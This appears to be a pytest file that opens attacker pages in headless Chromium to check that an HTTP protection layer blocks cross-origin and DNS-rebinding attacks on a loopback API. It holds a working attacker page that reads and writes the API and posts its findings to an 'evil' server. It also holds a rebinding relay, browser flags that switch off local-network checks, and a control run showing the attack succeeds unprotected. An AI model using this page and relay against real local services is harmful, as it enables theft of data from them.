"""Pages in a real browser: on another origin, and with a host name that is bound again to loopback.

The rebinding name is played by a relay: its first connection serves the page, and every later one
goes to the API, as if the name had got another address. So the page and the API have one origin for
the browser. What the pages manage is compared with a server without protection, which shows that
the pages do what an attacker would do.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import socket
import tempfile
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass, field

import pytest
import uvicorn
from starlette.types import ASGIApp, Receive, Scope, Send

from fennel_core.apps.http_protection import ProtectedApplication, Protection

CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "google-chrome", "chromium-browser"))), None
)
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium is installed: pages in a real browser are not tested"
)
PAGE = """<!doctype html><title>evil</title><body><script>
const api = "%(api)s", found = {};
const auth = {"Authorization": "Bearer dev-demo"};
async function attempt(name, path, options) {
  try {
    const response = await fetch(api + path, options);
    found[name] = response.type === "opaque" ? "opaque" : response.status + await response.text();
  } catch (error) { found[name] = "failed"; }
}
async function main() {
  await attempt("read", "/read", {});
  await attempt("read with token", "/read-token", {headers: auth});
  await attempt("read without CORS", "/read-opaque", {mode: "no-cors"});
  await attempt("write", "/write", {method: "POST", body: "evil"});
  await attempt("write without CORS", "/write-opaque",
    {method: "POST", body: "evil", mode: "no-cors"});
  await attempt("write JSON", "/write-json", {method: "POST", body: "{}",
    headers: {...auth, "Content-Type": "application/json"}});
  navigator.sendBeacon(api + "/beacon", "evil");
  const frame = document.createElement("iframe");
  frame.name = "frame"; document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: api + "/form", target: "frame"});
  document.body.append(form);
  const submitted = new Promise(done => frame.addEventListener("load", done));
  form.submit();
  await submitted;
  await fetch("%(results)s", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
}
main();
</script>"""
WITHIN_S = 60.0


@dataclass
class Api:
    """An application with something to read, which records what reaches it."""

    reached: set[str] = field(default_factory=set)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        self.reached.add(scope["path"])
        headers = [(b"content-type", b"text/plain")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b"SECRET"})


@dataclass
class Watched:
    """An application that notes when it has responded to the beacon, which no page can await."""

    app: ASGIApp
    beacon: asyncio.Event = field(default_factory=asyncio.Event)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        await self.app(scope, receive, send)
        if scope["path"] == "/beacon":
            self.beacon.set()


@dataclass
class Evil:
    """The attacker's server: serves the page, and gets what the page found."""

    page: bytes = b""
    found: asyncio.Queue[dict[str, str]] = field(default_factory=asyncio.Queue)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        body = (await receive()).get("body", b"")
        if scope["method"] == "POST":
            self.found.put_nowait(json.loads(body))
        headers = [(b"content-type", b"text/html")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": self.page})


@asynccontextmanager
async def serving(app: ASGIApp) -> AsyncIterator[int]:
    """Serve an application on loopback; yield its port."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        config = uvicorn.Config(app, lifespan="off", log_config=None, timeout_keep_alive=1)
        server = uvicorn.Server(config)
        server.install_signal_handlers = lambda: None  # type: ignore[attr-defined,method-assign]  # of older uvicorn
        task = asyncio.create_task(server._serve([listener]))
        try:
            yield listener.getsockname()[1]
        finally:
            server.should_exit = True
            await task


@asynccontextmanager
async def rebinding(page: bytes, api: int) -> AsyncIterator[int]:
    """Serve `page` to the first connection that asks for it, and relay all others to the API."""
    served = False

    async def relay(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal served
        head = await reader.readuntil(b"\r\n\r\n")
        if not served and head.startswith(b"GET /page "):
            served = True
            length = str(len(page)).encode()
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                b"Content-Length: " + length + b"\r\n\r\n" + page
            )
            await writer.drain()
            writer.close()
            return
        to_api = await asyncio.open_connection("127.0.0.1", api)
        to_api[1].write(head)
        await asyncio.gather(copy(reader, to_api[1]), copy(to_api[0], writer))

    server = await asyncio.start_server(relay, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()


async def copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(ConnectionError):
        while chunk := await reader.read(65_536):
            writer.write(chunk)
            await writer.drain()
    writer.close()


async def browse(url: str, evil: Evil, api: Watched) -> dict[str, str]:
    """Open a page in a fresh browser and return what it found, after the beacon's response."""
    assert CHROMIUM is not None
    # Processes of the browser may still write to the folder while they end.
    with tempfile.TemporaryDirectory(
        prefix="fennel-browser-", ignore_cleanup_errors=True
    ) as profile:
        browser = await asyncio.create_subprocess_exec(
            CHROMIUM,
            *("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
            *("--no-first-run", "--no-proxy-server", f"--user-data-dir={profile}"),
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
            url,
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            async with asyncio.timeout(WITHIN_S):
                await api.beacon.wait()
                return await evil.found.get()
        finally:
            # Its group: a renderer that outlives the browser keeps the machine busy.
            with suppress(ProcessLookupError):
                os.killpg(browser.pid, signal.SIGKILL)
            await browser.wait()


async def attack(kind: str, protected: bool) -> tuple[dict[str, str], set[str]]:
    """Return what a page of this kind found, and which paths of the API it reached."""
    api, evil = Api(), Evil()
    app = Watched(ProtectedApplication(api, Protection()) if protected else api)
    async with AsyncExitStack() as stack:
        api_port = await stack.enter_async_context(serving(app))
        evil_port = await stack.enter_async_context(serving(evil))
        results = f"http://127.0.0.1:{evil_port}/found"
        if kind == "other origin":
            evil.page = (
                PAGE % {"api": f"http://127.0.0.1:{api_port}", "results": results}
            ).encode()
            found = await browse(f"http://evil.example:{evil_port}/page", evil, app)
        else:
            page = (PAGE % {"api": "", "results": results}).encode()
            port = await stack.enter_async_context(rebinding(page, api_port))
            found = await browse(f"http://evil.example:{port}/page", evil, app)
    return found, api.reached


@pytest.mark.parametrize("kind", ["other origin", "rebinding name"])
async def test_a_page_neither_reads_nor_writes_the_api(kind: str) -> None:
    found, reached = await attack(kind, protected=True)
    assert len(found) == 6, found
    assert "SECRET" not in json.dumps(found)
    assert reached == set()


@pytest.mark.parametrize(
    ("kind", "reads", "written"),
    [
        ("other origin", set(), {"/read-opaque", "/write", "/write-opaque", "/form", "/beacon"}),
        (
            "rebinding name",
            {"read", "read with token"},
            {"/write", "/write-json", "/form", "/beacon"},
        ),
    ],
)
async def test_without_protection_such_a_page_succeeds(
    kind: str, reads: set[str], written: set[str]
) -> None:
    """Otherwise the test above would show nothing."""
    found, reached = await attack(kind, protected=False)
    assert {name for name, text in found.items() if text == "200SECRET"} >= reads
    assert reached >= written
